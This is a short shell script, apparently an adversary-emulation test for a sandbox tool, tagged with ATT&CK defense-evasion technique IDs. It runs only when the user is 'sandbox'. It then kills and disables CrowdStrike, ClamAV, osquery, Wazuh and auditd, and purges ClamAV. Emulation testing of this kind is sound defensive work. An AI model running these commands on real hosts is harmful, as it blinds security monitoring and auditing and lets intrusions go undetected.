#!/bin/sh
# technique: T1685 T1562.001 T1489 T1562
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

pkill -9 falcon-sensor; killall -9 clamd osqueryd wazuh-agentd; systemctl stop falcon-sensor.service; systemctl disable --now wazuh-agent; apt-get -y purge clamav; kill -9 $(pidof auditd)
